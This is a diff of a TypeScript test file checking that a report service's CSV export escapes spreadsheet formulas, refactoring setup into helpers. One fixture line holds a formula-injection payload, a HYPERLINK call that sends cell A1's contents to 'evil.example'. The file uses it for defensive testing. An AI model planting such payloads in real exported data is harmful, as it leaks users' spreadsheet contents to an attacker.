@@ -3,19 +3,14 @@
  * starts with =, +, -, @, tab or carriage return gets a leading `'`, so a pulled issue titled
  * `=HYPERLINK(…)` opens as text, while numbers stay numbers. A report can turn it off.
  */
-import { env } from "cloudflare:test";
 import Papa from "papaparse";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { beforeAll, describe, expect, it } from "vitest";
 import { z } from "zod";
-import { getConfig } from "../../src/config/index.ts";
-import { reportSchema } from "../../src/config/schema.ts";
-import { createRuntime } from "../../src/env.ts";
-import { runModels } from "../../src/models/runner.ts";
-import { reportToken } from "../support/fixtures.ts";
 import { deliver, recordMessage } from "../support/queue.ts";
-import { call, origin } from "../support/worker.ts";
+import { buildUpTo, declareReport } from "../support/reports.ts";
+import { getWithReportToken } from "../support/worker.ts";
 
-const get = (path: string) => call(new Request(`${origin}${path}`, { headers: { authorization: `Bearer ${reportToken}` } }));
+const get = getWithReportToken;
 
 const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
 // Issue number → title, as the GitHub pull loads them (in 2042, so no other test's issues share the page).
@@ -49,7 +44,7 @@ beforeAll(async () => {
     ),
   );
   expect(result.explicitAcks).toHaveLength(titles.length);
-  await runModels(createRuntime(env, "scheduled"), { trigger: "manual", select: ["+open_issues"] });
+  await buildUpTo("open_issues");
 });
 
 describe("report CSV: formula escaping", () => {
@@ -78,19 +73,13 @@ describe("report CSV: formula escaping", () => {
 });
 
 describe("report CSV: a report that turns escaping off", () => {
-  const reports = getConfig().reports;
-  beforeAll(() => {
-    reports.open_issues_unescaped = reportSchema.parse({
-      description: "Open issues, CSV exactly as stored",
-      model: "open_issues",
-      params: { since: { schema: z.iso.datetime().optional(), column: "updated_at", op: ">=" } },
-      sort: ["number"],
-      key: ["issue_id"],
-      csv: { escapeFormulas: false },
-    });
-  });
-  afterAll(() => {
-    delete reports.open_issues_unescaped;
+  declareReport("open_issues_unescaped", {
+    description: "Open issues, CSV exactly as stored",
+    model: "open_issues",
+    params: { since: { schema: z.iso.datetime().optional(), column: "updated_at", op: ">=" } },
+    sort: ["number"],
+    key: ["issue_id"],
+    csv: { escapeFormulas: false },
   });
 
   it("serves the titles unchanged", async () => {
